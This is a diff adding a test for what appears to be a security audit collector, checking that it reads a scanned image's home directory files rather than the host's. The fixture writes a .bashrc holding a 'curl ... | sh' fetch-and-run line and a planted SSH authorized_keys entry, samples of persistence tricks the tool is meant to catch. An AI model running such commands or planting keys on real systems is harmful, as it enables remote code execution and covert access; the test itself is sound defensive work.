@@ -165,3 +165,33 @@ test("size and time bounds stop the collector with a recorded reason, and the bu
   const stopped = await mamori(["audit", "--bundle", file, "--format", "json", "--now", FIXTURE_NOW]);
   assert.match(stopped.stdout, /The collector stopped early \(time-limit\)/);
 });
+
+test("the scanned root's homes are read, not those of the machine running the collector, each start file once", async (t) => {
+  const bb = busyboxPath(t);
+  const root = tempDir(t);
+  fs.mkdirSync(path.join(root, "etc"), { recursive: true });
+  fs.writeFileSync(path.join(root, "etc/os-release"), 'ID=debian\nVERSION_ID="12"\n');
+  fs.writeFileSync(
+    path.join(root, "etc/passwd"),
+    "root:x:0:0:root:/root:/bin/sh\nmamori-img-user:x:1000:1000::/home/mamori-img-user:/bin/sh\n",
+  );
+  const home = path.join(root, "home/mamori-img-user");
+  fs.mkdirSync(path.join(home, ".ssh"), { recursive: true });
+  fs.writeFileSync(path.join(home, ".bashrc"), "curl -s http://127.0.0.1:9/k | sh\n");
+  fs.writeFileSync(
+    path.join(home, ".ssh/authorized_keys"),
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK planted\n",
+  );
+  fs.writeFileSync(path.join(home, ".x"), "hidden\n");
+  const out = collect(path.join(bb, "sh"), { PATH: bb }, ["--root", root, "--no-gzip"]).toString("latin1");
+  const files = out
+    .split("\n")
+    .filter((l) => l.startsWith("F "))
+    .map((l) => (l.split(" ")[1] as string).replace(/^=/, ""));
+  for (const f of [".bashrc", ".ssh/authorized_keys", ".x"])
+    assert.equal(
+      files.filter((p) => p === `/home/mamori-img-user/${f}`).length,
+      1,
+      `${f} in ${files.join(" ")}`,
+    );
+});
